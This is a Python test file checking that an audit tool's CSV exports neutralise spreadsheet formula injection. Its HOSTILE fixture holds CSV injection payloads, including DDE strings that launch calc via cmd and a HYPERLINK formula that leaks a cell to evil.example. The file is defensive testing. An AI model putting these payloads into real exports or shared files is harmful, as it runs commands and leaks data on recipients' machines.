"""Every CSV the audit package writes is spreadsheet-safe: no cell runs as a formula."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

from tests.audit.conftest import T0, fill
from trustlpr.audit import open_audit
from trustlpr.audit.export import export
from trustlpr.core import AuditEvent, EventType

HOSTILE = {
    "user_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "reason": '=HYPERLINK("http://evil.example/?leak="&A1,"report")',
    "case_number": "+1-800-FORMULA",
    "pattern": "-2+3+cmd|' /C calc'!A0",
    "legal_basis": "\t=1+1",
}
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _hostile_search(index: int) -> list[AuditEvent]:
    request_id = f"req-h{index}"
    at = T0 + timedelta(minutes=index)
    requested = AuditEvent(
        type=EventType.SEARCH_REQUESTED,
        at=at,
        agency_id="ct-nhpd",
        public={"request_id": request_id, "purpose": "stolen_vehicle"},
        private={"request_id": request_id, **HOSTILE, "networks_searched": "-1"},
    )
    decided = AuditEvent(
        type=EventType.SEARCH_DECIDED,
        at=at,
        agency_id="ct-nhpd",
        public={"request_id": request_id, "decision": "deny", "search_type": "partial"},
        private={"request_id": request_id, "offense_code": "=2+5"},
    )
    return [requested, decided]


def _assert_safe(text: str) -> int:
    cells = 0
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            cells += 1
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert _PLAIN_NUMBER.fullmatch(cell), f"formula cell {cell[:30]!r}"
    return cells


def test_flock_and_public_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
    with open_audit(tmp_path, agency_id="ct-nhpd") as audit:
        fill(audit, 200)  # enough base64 hashes and commitments that some start with '+'
        for i in range(3):
            audit.append_many(_hostile_search(i))
        for fmt in ("flock-csv", "csv"):
            out = io.StringIO()
            export(audit.log, out, fmt)
            assert _assert_safe(out.getvalue()) > 100
        out = io.StringIO()
        export(audit.log, out, "flock-csv", start=200)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert len(rows) == 3
    row = rows[0]
    # neutralised by a leading quote, the text itself kept whole for the reader
    assert row["Reason"] == "'" + HOSTILE["reason"]
    assert row["Name"] == "'" + HOSTILE["user_name"]
    assert row["Case #"] == "'" + HOSTILE["case_number"]
    assert row["License Plate"] == "'" + HOSTILE["pattern"]
    assert row["Total Networks Searched"] == "-1"  # a plain number stays a number
